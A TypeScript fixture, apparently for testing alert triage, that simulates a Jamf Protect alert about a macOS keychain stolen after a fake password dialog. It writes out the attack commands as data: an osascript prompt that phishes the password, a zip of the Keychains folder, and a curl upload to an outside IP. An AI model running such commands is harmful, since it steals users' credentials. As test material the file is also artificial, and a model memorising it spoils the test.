// An alert of Jamf Protect: a false dialog asked for the password, and the keychain left the Mac.
import { alert, connected, hostile, ran, situation } from '../../shorthand.ts'

export const jamfProtectStolenKeychain = situation(
  'jamf-protect-stolen-keychain',
  'formats',
  'A keychain leaves the only Mac',
  (setting) => {
    const amelie = setting.person('amelie.roux')
    const mac = setting.laptopOf(amelie.key)
    const at = setting.ago({ hours: 1, minutes: 2 })
    const ip = '82.115.223.190'
    const dialog =
      'osascript -e \'display dialog "macOS needs your password to continue." default answer "" with hidden answer\''
    const upload = `curl -s -F file=@/tmp/out.zip http://${ip}/joinsystem`
    return {
      alerts: [
        alert(setting, at, 'jamf_protect', 'InfoStealerKeychainCollection', {
          caid: setting.seeded.hex('jamf caid', 64),
          certid: setting.seeded.hex('jamf cert', 40),
          input: {
            eventType: 'GPProcessEvent',
            host: {
              hostname: mac.host,
              ips: [mac.ip],
              os: 'Version 15.6 (Build 24G84)',
              protectVersion: '7.2.0.4',
              serial: 'C02G91XKQ05D',
              provisioningUDID: setting.seeded.guid('jamf udid').toUpperCase(),
            },
            match: {
              severity: 3,
              uuid: setting.seeded.guid('jamf match'),
              tags: ['T1555.001', 'T1056.002', 'CredentialAccess'],
              facts: [
                {
                  name: 'InfoStealerKeychainCollection',
                  human: 'A process archived the login keychain after a password prompt by a script',
                  severity: 3,
                  actions: [{ name: 'Report' }],
                  tags: ['T1555.001'],
                },
              ],
              event: {
                timestamp: at / 1000,
                type: 1,
                pid: 8821,
                name: 'Exec: zip',
              },
            },
            related: {
              processes: [
                {
                  pid: 8790,
                  name: 'osascript',
                  args: [dialog],
                  uid: 501,
                  signingInfo: { appid: 'com.apple.osascript' },
                },
                { pid: 8821, name: 'zip', args: ['zip', '-r', '/tmp/out.zip', '/tmp/Library/Keychains'], uid: 501 },
                {
                  pid: 8830,
                  name: 'curl',
                  args: upload.split(' '),
                  uid: 501,
                  signingInfo: { appid: 'com.apple.curl' },
                },
              ],
              users: [{ name: 'aroux', uid: 501 }],
              groups: [{ name: 'staff', gid: 20 }],
              files: [],
              binaries: [],
            },
          },
        }),
      ],
      facts: {
        intelligence: [
          setting.risk('ip', ip, 93, [
            ['Current Data Exfiltration Server', 4, 'Takes what the Amberfox stealer for Macs sends, today.'],
          ]),
        ],
        telemetry: [
          ran(mac, at - 60_000, 'osascript', dialog, { AccountName: 'aroux', InitiatingProcessFileName: 'bash' }),
          ran(mac, at + 12_000, 'curl', upload, { AccountName: 'aroux', InitiatingProcessFileName: 'bash' }),
          connected(mac, at + 13_000, ip, {
            RemotePort: 80,
            InitiatingProcessFileName: 'curl',
            InitiatingProcessCommandLine: upload,
            InitiatingProcessAccountName: 'aroux',
          }),
        ],
      },
      expected: { ...hostile(mac.host), severities: ['high', 'critical'] },
      because:
        'A script asked for her password, packed the keychain and sent it to a server that takes the loot of a stealer today. The endpoint platform saw the Mac do it.',
    }
  },
)
